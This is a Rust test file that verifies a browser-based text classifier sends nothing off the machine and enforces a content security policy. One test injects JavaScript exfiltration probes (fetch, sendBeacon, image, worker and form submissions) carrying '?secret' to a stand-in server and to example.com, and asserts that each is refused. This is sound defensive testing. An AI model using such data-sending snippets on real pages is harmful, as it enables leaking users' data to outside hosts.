//! The promise that nothing leaves the machine, checked three ways: by what the page's network saw, by what the server
//! was asked for, and by a second server that stands in for every other host.

use serde_json::{Value, json};

use super::chrome;
use super::visit::with_page;

#[test]
fn nothing_is_requested_while_classifying() {
    with_page("nothing_is_requested_while_classifying", async |visit| {
        let page = &visit.page;
        page.load_model().await;
        page.classify("The first text, with which the task's prefix is computed.").await;
        let loaded = chrome::requests(&page.client).await;
        assert!(loaded.iter().any(|url| url.starts_with(&page.url)), "the recorder records: {loaded:?}");
        let served = visit.served().len();

        for text in ["I love this movie!", "Never again.", "", "It works.", "A fourth secret: 4929 1234 5678 9012"] {
            page.enter(text).await;
            page.settle().await;
        }
        assert_eq!(chrome::requests(&page.client).await, Vec::<String>::new(), "requests of the page");
        assert_eq!(visit.served()[served..], Vec::<String>::new(), "requests at the server, workers' included");
        let outside: Vec<_> = visit.elsewhere.requests();
        assert!(!outside.iter().any(|line| line.contains("secret") || line.contains("4929")), "{outside:?}");

        // The recorders would have seen one.
        let status = page.script_later("return (await fetch('index.html?probe')).status;", Value::Null).await;
        assert_eq!(status, json!(200));
        assert!(chrome::requests(&page.client).await.iter().any(|url| url.contains("?probe")));
        assert_eq!(visit.served().len(), served + 1, "{:?}", &visit.served()[served..]);
    });
}

#[test]
fn another_origin_cannot_be_reached_from_the_page() {
    with_page("another_origin_cannot_be_reached_from_the_page", async |visit| {
        let page = &visit.page;
        page.wait_until("the page", "document.querySelector('#load-model')").await;
        let secret = format!("{}?secret", visit.elsewhere.url());
        for (what, body) in [
            ("fetch", "await fetch(argument, { mode: 'no-cors' }); return 'sent';"),
            ("beacon", "return navigator.sendBeacon(argument, 'text') ? 'queued' : 'refused';"),
            (
                "image",
                "return await new Promise(done => {
                     const image = new Image();
                     image.onload = () => done('loaded');
                     image.onerror = () => done('refused');
                     image.src = argument;
                 });",
            ),
            (
                "worker",
                "const code = `fetch(${JSON.stringify(argument)}, { mode: 'no-cors' })
                     .then(() => postMessage('sent'), () => postMessage('refused'));`;
                 return await new Promise((done, refused) => {
                     const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
                     worker.onmessage = event => done(event.data);
                     worker.onerror = refused;
                 });",
            ),
            (
                "form",
                "return new Promise(done => {
                 document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
                 const form = Object.assign(document.createElement('form'), { action: argument, method: 'get' });
                 document.body.append(form);
                 form.submit();
                 setTimeout(() => done('waited'), 1000);
             });",
            ),
        ] {
            let outcome = page.script_later(body, secret.as_str()).await;
            println!("{what}: {outcome}");
            assert!(!matches!(outcome.as_str(), Some("sent" | "loaded")), "{what}: {outcome}");
        }
        let outside =
            page.script_later("await fetch('https://example.com/?secret'); return 'sent';", Value::Null).await;
        assert_ne!(outside, json!("sent"));
        let leaked: Vec<_> = visit.elsewhere.requests().into_iter().filter(|line| line.contains("secret")).collect();
        assert_eq!(leaked, Vec::<String>::new(), "requests that reached another origin");
        // Without the policy they would have arrived: the other server answers.
        assert!(std::net::TcpStream::connect(("127.0.0.1", visit.elsewhere.port())).is_ok());
    });
}

#[test]
fn the_page_is_isolated() {
    with_page("the_page_is_isolated", async |visit| {
        visit.page.wait_until("the page", "document.querySelector('#load-model')").await;
        assert_eq!(visit.page.script("return window.crossOriginIsolated;", Value::Null).await, json!(true));
        let policy = visit
            .page
            .script("return document.querySelector('meta[http-equiv=Content-Security-Policy]')?.content;", Value::Null)
            .await;
        let policy = policy.as_str().expect("the page carries its policy, whoever serves it");
        for part in ["default-src", "connect-src"] {
            assert!(policy.contains(part), "{part} missing in {policy}");
        }
        assert!(!policy.contains("'unsafe-eval'"), "{policy}");
    });
}
